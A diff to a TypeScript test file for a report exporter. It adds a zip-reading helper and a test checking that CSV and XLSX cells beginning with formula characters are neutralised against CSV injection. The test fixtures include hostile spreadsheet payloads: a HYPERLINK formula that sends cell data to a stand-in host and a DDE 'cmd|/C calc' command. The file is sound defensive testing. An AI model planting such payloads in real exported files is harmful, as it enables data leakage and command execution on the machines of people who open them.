@@ -1,4 +1,5 @@
 import readXlsxFile from 'read-excel-file/node';
+import { inflateRawSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { reportWorkbook } from '#adapters/report-workbook';
 import { rankCluster } from '#domain/clusters';
@@ -33,6 +34,22 @@ function closedDossier(status: 'Awarded' | 'NotApproved' | 'Withdrawn', submitte
     d = planChange(d, { event, actor: systemActor, ...(event === 'submit' ? { set: { submittedAt } } : {}) }, new Date(last ? closedAt : submittedAt)).after;
   });
   return d;
+}
+
+/** The text entries of a zip written by the workbook adapter (local headers, deflate or stored). */
+function unzipEntries(zip: Buffer): Record<string, string> {
+  const out: Record<string, string> = {};
+  for (let at = 0; zip.readUInt32LE(at) === 0x04034b50; ) {
+    const method = zip.readUInt16LE(at + 8);
+    const size = zip.readUInt32LE(at + 18);
+    const nameLength = zip.readUInt16LE(at + 26);
+    const extra = zip.readUInt16LE(at + 28);
+    const name = zip.subarray(at + 30, at + 30 + nameLength).toString('utf8');
+    const data = zip.subarray(at + 30 + nameLength + extra, at + 30 + nameLength + extra + size);
+    out[name] = (method === 8 ? inflateRawSync(data) : data).toString('utf8');
+    at += 30 + nameLength + extra + size;
+  }
+  return out;
 }
 
 describe('closing counts', () => {
@@ -131,7 +148,7 @@ describe('the year-end report', () => {
 
   it('writes CSV with a BOM and quoted cells, and an XLSX whose cells hold the same numbers', async () => {
     const csv = tableCsv({ id: 'x', title: { vi: 't', en: 't' }, columns: [{ vi: 'Tên, "đơn vị"', en: '' }, { vi: 'Số', en: '' }], rows: [['Sở Y tế', 3]] });
-    expect(csv).toBe('\uFEFF"Tên, ""đơn vị""",Số\r\nSở Y tế,3\r\n');
+    expect(csv).toBe('\uFEFF"Tên, ""đơn vị""","Số"\r\n"Sở Y tế",3\r\n');
     const workbook = await reportWorkbook(report.tables);
     const sheets = await readXlsxFile(Buffer.from(workbook));
     expect(sheets.map((s) => s.sheet)).toEqual(report.tables.map((t) => t.id));
@@ -141,6 +158,26 @@ describe('the year-end report', () => {
       expect(sheet.data[1]).toEqual(t.columns.map((c) => c.vi));
       expect(sheet.data.slice(2)).toEqual(t.rows.map((r) => [...r]));
     }
+  });
+  it('neutralises spreadsheet formulas in every CSV and XLSX cell written from text (OWASP CSV injection)', async () => {
+    // Text a person typed (a cluster, unit or nominee name) that a spreadsheet would otherwise run as a formula.
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
+    const table = { id: 'x', title: { vi: '=tiêu đề', en: 't' }, columns: [{ vi: '@cột', en: '' }, { vi: 'Số', en: '' }], rows: [...hostile.map((h) => [h, -5] as [string, number]), ['Sở Y tế', 3] as [string, number]] };
+    const csvRows = tableCsv(table).replace(/^\uFEFF/, '').split('\r\n').slice(0, -1);
+    expect(csvRows).toHaveLength(hostile.length + 2);
+    // Every text cell that began with a formula character now begins with a single quote, inside quotes; numbers stay numbers.
+    expect(csvRows[0]).toBe(`"'@cột","Số"`);
+    hostile.forEach((h, i) => expect(csvRows[i + 1]).toBe(`"'${h.replace(/"/g, '""')}",-5`));
+    expect(csvRows.at(-1)).toBe('"Sở Y tế",3');
+    // The workbook keeps each value as typed text, marked with Excel's quote prefix so editing the cell cannot turn it into a formula.
+    const workbook = Buffer.from(await reportWorkbook([table]));
+    const [sheet] = await readXlsxFile(workbook, { trim: false });
+    expect(sheet!.data.slice(2).map((r) => r[0])).toEqual([...hostile, 'Sở Y tế']);
+    const xml = unzipEntries(workbook);
+    expect(xml['xl/styles.xml']).toMatch(/quotePrefix="1"/);
+    const quoted = [...xml['xl/worksheets/sheet1.xml']!.matchAll(/<c r="([A-Z]+\d+)" s="(\d+)" t="inlineStr">/g)].filter(([, , s]) => xml['xl/styles.xml']!.split('<xf ').filter((x) => x.includes('xfId'))[Number(s)]?.includes('quotePrefix="1"'));
+    expect(quoted.map(([, ref]) => ref).sort()).toEqual(['A1', 'A2', ...hostile.map((_, i) => `A${i + 3}`)].sort());
+    expect(xml['xl/worksheets/sheet1.xml']).not.toMatch(/<f>/);
   });
   it("crosses to the renderer intact: its request schema takes every report the job builds, as JSON, and refuses names that would leave the version's folder", () => {
     const request = { year: 2025, version: 1, generatedAt: '2025-12-20T00:00:00.000Z', report };
